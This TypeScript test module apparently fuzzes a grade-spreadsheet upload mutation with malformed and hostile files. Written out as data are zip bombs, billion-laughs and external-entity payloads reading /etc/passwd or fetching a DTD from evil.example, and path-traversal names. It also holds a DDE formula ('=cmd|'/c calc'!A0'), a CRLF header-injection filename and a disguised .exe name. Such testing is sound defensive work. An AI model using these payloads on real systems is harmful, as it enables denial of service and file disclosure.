import { sheetOf, workbook, zip } from "../../support/zip.ts";
import type { Attack } from "./arena.ts";

const HEADER = ["学号", "课程代码", "学期", "成绩", "完成日期"];
const cell = (text: string): string => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const row = (cells: readonly string[]): string => `<row>${cells.map(cell).join("")}</row>`;
const good = row(HEADER) + row(["1", "X", "2025-2026-1", "60", "2026-01-10"]);

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from("bcdefghijklmnop", (name, n) => `<!ENTITY ${name} "${`&${"abcdefghijklmno"[n]};`.repeat(10)}">`).join("")}]>`;
const OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>';

const zeros = (size: number): Buffer => Buffer.alloc(size);

/** Archives that are more, or other, than they look. */
const ARCHIVES: Readonly<Record<string, () => Buffer>> = {
  "sixty megabytes of nothing": () => zip([{ name: "xl/worksheets/sheet1.xml", content: zeros(60_000_000) }]),
  "many parts of nothing": () =>
    zip(Array.from({ length: 60 }, (_, n) => ({ name: `p${n}`, content: zeros(1_000_000) }))),
  "thousands of parts": () => zip(Array.from({ length: 6000 }, (_, n) => ({ name: `p${n}`, content: "" }))),
  "an archive within an archive": () =>
    zip([{ name: "a.zip", content: zip([{ name: "b.zip", content: zip([{ name: "c", content: "x" }]) }]) }]),
  "a size that is a lie": () => zip([{ name: "xl/workbook.xml", content: zeros(1_000_000), claimedSize: 10 }]),
  "a way of packing that is none": () => zip([{ name: "xl/workbook.xml", content: "x", method: 99 }]),
  "a part under a password": () => zip([{ name: "xl/workbook.xml", content: "x", flags: 1 }]),
  "fewer parts than it says": () => zip([{ name: "a", content: "x" }], 60_000),
  "no parts": () => zip([]),
  "a part outside": () => zip([{ name: "../../../../tmp/x", content: "x" }]),
  "a part of an absolute name": () => zip([{ name: "/etc/passwd", content: "x" }]),
  "a part with NUL in its name": () => zip([{ name: "xl/workbook.xml\0.txt", content: "x" }]),
  "the same part again and again": () =>
    zip(Array.from({ length: 500 }, () => ({ name: "xl/workbook.xml", content: "<a/>" }))),
  "cut off": () => workbook(sheetOf(good)).subarray(0, 300),
  "its head alone": () => Buffer.from("PK\x03\x04", "latin1"),
  "its end alone": () => zip([]).subarray(),
  "its end twice": () => Buffer.concat([zip([{ name: "a", content: "x" }]), zip([])]),
  "parts that lie over one another": () => {
    const bytes = zip(Array.from({ length: 60 }, (_, n) => ({ name: `p${n}`, content: zeros(1_000_000) })));
    // every entry of the directory points at the first part
    for (let at = bytes.indexOf("PK\x01\x02", 0, "latin1"); at >= 0; at = bytes.indexOf("PK\x01\x02", at + 4, "latin1"))
      bytes.writeUInt32LE(0, at + 42);
    return bytes;
  },
  "a directory that points at itself": () => {
    const bytes = zip([{ name: "a", content: "x" }]);
    bytes.writeUInt32LE(bytes.length - 22, bytes.length - 22 + 16);
    return bytes;
  },
  "a directory beyond its end": () => {
    const bytes = zip([{ name: "a", content: "x" }]);
    bytes.writeUInt32LE(0xffffffff, bytes.length - 22 + 16);
    return bytes;
  },
};

/** Workbooks whose XML is the attack. */
const WORKBOOKS: Readonly<Record<string, () => Buffer>> = {
  "entities that double (a billion laughs)": () => workbook(sheetOf(row(["&p;", ...HEADER.slice(1)]), LAUGHS)),
  "doubling entities among shared texts": () =>
    workbook(sheetOf('<row><c t="s"><v>0</v></c></row>'), {
      "xl/sharedStrings.xml": `<?xml version="1.0"?>${LAUGHS}<sst><si><t>&p;</t></si></sst>`,
    }),
  "doubling entities in the workbook": () =>
    workbook(sheetOf(good), {
      "xl/workbook.xml": `<?xml version="1.0"?>${LAUGHS}<workbook><sheets><sheet name="&p;" sheetId="1"/></sheets></workbook>`,
    }),
  "an entity from outside": () => workbook(sheetOf(row(["&e;"]), OUTSIDE)),
  "an entity from elsewhere": () => workbook(sheetOf(row(["a"]), PARAMETER)),
  "an entity that is not declared": () => workbook(sheetOf(row(["&nosuch;"]))),
  "no sheets": () => workbook("", { "xl/worksheets/sheet1.xml": null }),
  "no workbook": () => workbook(sheetOf(good), { "xl/workbook.xml": null }),
  "no list of types": () => workbook("", { "[Content_Types].xml": null, "_rels/.rels": null }),
  "a workbook that is no XML": () => workbook(sheetOf(good), { "xl/workbook.xml": "hello" }),
  "a sheet that is no XML": () => workbook("hello"),
  "a sheet that does not end": () => workbook("<worksheet><sheetData><row><c>"),
  "a sheet of great depth": () => workbook(sheetOf("<a>".repeat(40_000) + "</a>".repeat(40_000))),
  "relations in a ring": () =>
    workbook(sheetOf(good), {
      "xl/_rels/workbook.xml.rels":
        '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="workbook.xml"/></Relationships>',
    }),
  "relations outside": () =>
    workbook(sheetOf(good), {
      "xl/_rels/workbook.xml.rels":
        '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
    }),
  "relations elsewhere": () =>
    workbook(sheetOf(good), {
      "xl/_rels/workbook.xml.rels":
        '<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="http://evil.example/x"/></Relationships>',
    }),
  "cells beyond any sheet": () => workbook(sheetOf('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>')),
  "rows beyond any sheet": () => workbook(sheetOf('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>')),
  "a row below the first": () => workbook(sheetOf('<row r="-1"><c r="A-1"><v>1</v></c></row>')),
  "a million columns": () => workbook(sheetOf(`<row>${"<c><v>1</v></c>".repeat(200_000)}</row>`)),
  "a million rows": () => workbook(sheetOf("<row><c><v>1</v></c></row>".repeat(110_000))),
  "shared texts that are not there": () => workbook(sheetOf('<row><c t="s"><v>999999999</v></c></row>')),
  "shared texts below the first": () => workbook(sheetOf('<row><c t="s"><v>-1</v></c></row>')),
  "a number that is none": () => workbook(sheetOf(`${row(HEADER)}<row><c><v>1e999</v></c><c><v>NaN</v></c></row>`)),
  "NUL in a cell": () => workbook(sheetOf(row(HEADER) + row(["1&#0;", "X", "2025-2026-1", "60", "2026-01-10"]))),
  "half a character in a cell": () =>
    workbook(sheetOf(row(HEADER) + row(["1&#xD800;", "X", "2025-2026-1", "60", "2026-01-10"]))),
  "a formula in a cell": () =>
    workbook(sheetOf(`${row(HEADER)}<row><c><f>HYPERLINK("http://evil.example")</f><v>1</v></c></row>`)),
  "everything hidden": () =>
    workbook(sheetOf(good), {
      "xl/workbook.xml":
        '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" state="veryHidden" r:id="rId1"/></sheets></workbook>',
    }),
};

const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
const csv = (cells: readonly string[]): string => `${HEADER.join(",")}\r\n${cells.join(",")}\r\n`;

/** What is no sheet, and sheets that are text. */
const FILES: Readonly<Record<string, () => Buffer>> = {
  nothing: () => Buffer.alloc(0),
  "a byte": () => Buffer.from("x"),
  "a program": () => Buffer.from("MZ\x90\0\x03\0", "latin1"),
  "another system's program": () => Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"),
  "a document": () => Buffer.from("%PDF-1.7\n%\xff\xff\n", "latin1"),
  "a picture": () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]),
  "a page": () => Buffer.from("<!doctype html><script>alert(1)</script>"),
  "an old sheet": () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
  "a sheet under a password": () =>
    Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.from("EncryptedPackage", "utf16le"),
    ]),
  "a packed file": () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]),
  "another archive": () => Buffer.from("7z\xbc\xaf\x27\x1c", "latin1"),
  "bytes that are no text": () => Buffer.from([0x80, 0xff, 0xff, 0x81]),
  "text with NUL": () => Buffer.from(csv(["1\0", "X", "2025-2026-1", "60", "2026-01-10"])),
  "UTF-16 with NUL": () => utf16(csv(["1\0", "X", "2025-2026-1", "60", "2026-01-10"])),
  "UTF-16 with half a character": () => utf16(csv(["1\ud800", "X", "2025-2026-1", "60", "2026-01-10"])),
  "UTF-16 cut off": () => utf16(csv(["1"])).subarray(0, 51),
  "a quote that does not end": () => Buffer.from(`${HEADER.join(",")}\r\n"${"a".repeat(500_000)}`),
  "half a million commas": () => Buffer.from(",".repeat(500_000)),
  "half a million lines": () => Buffer.from("\n".repeat(500_000)),
  "rows beyond count": () => Buffer.from(HEADER.join(",") + "\n1,2,3,4,5".repeat(60_000)),
  "a header again and again": () => Buffer.from(`${HEADER.join(",")}\r\n`.repeat(1000)),
  "a cell of very much": () => Buffer.from(csv(["1".repeat(600_000), "X", "2025-2026-1", "60", "2026-01-10"])),
  "a formula for a number": () => Buffer.from(csv(["=1+1", "=cmd|'/c calc'!A0", "+1", "-1", "@SUM(1)"])),
  "numbers that are none": () => Buffer.from(csv(["1E+17", "X", "2025-2026-1", "1e400", "NaN"])),
  "days that are none": () => Buffer.from(csv(["1", "X", "2025-2026-1", "60", "2026-02-31"])),
  "the year 0": () => Buffer.from(csv(["1", "X", "2025-2026-1", "60", "0000-01-01"])),
  "a day beyond": () => Buffer.from(csv(["1", "X", "2025-2026-1", "60", "99999999"])),
};

const NAMES: Readonly<Record<string, string>> = {
  upwards: "../../../../etc/passwd",
  "with NUL": "a\0.xlsx",
  "with a line break": "a\r\nSet-Cookie: x.xlsx",
  "of very much": `${"a".repeat(30_000)}.xlsx`,
  "turned about": "a\u202exslx.exe",
  "of half a character": "a\ud800.csv",
};

const recording = (family: string, name: string, content: () => string, fileName = "a.xlsx"): Attack => ({
  family,
  name,
  launch: ({ ask }) =>
    ask(
      "registrar",
      "mutation ($input: RecordAchievementsInput!) { recordAchievements(input: $input) { __typename ... on Problem { code } } }",
      { input: { fileName, contentBase64: content() } },
    ),
});
const ofBytes = (family: string, files: Readonly<Record<string, () => Buffer>>, fileName?: string): Attack[] =>
  Object.entries(files).map(([name, bytes]) => recording(family, name, () => bytes().toString("base64"), fileName));

export const SHEET_ATTACKS: readonly Attack[] = [
  ...ofBytes("archive that is a trap", ARCHIVES),
  ...ofBytes("workbook that is a trap", WORKBOOKS),
  ...ofBytes("file that is no sheet", FILES, "a.csv"),
  ...Object.entries(NAMES).map(([name, fileName]) =>
    recording("name of a file", name, () => Buffer.from("x").toString("base64"), fileName),
  ),
  recording("file that is no sheet", "text that is no base64", () => "§§§ not base64 §§§"),
  recording("file that is no sheet", "more than a body holds", () => "A".repeat(1_100_000)),
];
